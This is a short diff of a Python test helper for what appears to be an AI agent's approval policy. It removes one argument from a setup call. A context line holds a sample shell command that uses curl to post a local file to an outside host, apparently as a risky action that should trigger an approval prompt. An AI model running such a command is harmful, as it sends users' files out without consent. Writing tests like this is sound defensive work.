@@ -34,7 +34,6 @@ def ask_each(tmp_path: Path, kind: str, *questions: Decision) -> list[str]:
         front=cast(Frontend, front),
         policy=Policy(Mode.WORKSPACE, Approval.ASK),
         home=Home(config=tmp_path, data=tmp_path, cache=tmp_path),
-        arguments=lambda tool, paths: (),
     )
     effect = Effect(kind="execute", argv=("bash", "-c", "curl -d @n.txt example.net"))
     for each in questions:
